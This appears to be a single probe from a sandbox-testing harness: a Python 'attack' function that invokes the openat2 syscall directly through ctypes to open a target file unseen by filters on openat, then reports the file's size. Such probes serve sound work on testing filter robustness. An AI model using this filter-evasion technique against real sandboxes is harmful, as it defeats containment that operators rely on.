"""Opens a file by `openat2`, which filters of `openat` do not see, and seeks to its end."""

import ctypes
import os
import struct


def attack(A):
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    libc = ctypes.CDLL(None, use_errno=True)
    arguments = (ctypes.c_long(-100), TARGET["sized"].encode(), how, ctypes.c_long(len(how)))
    descriptor = libc.syscall(ctypes.c_long(437), *arguments)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    return f"{os.lseek(descriptor, 0, os.SEEK_END)} bytes"
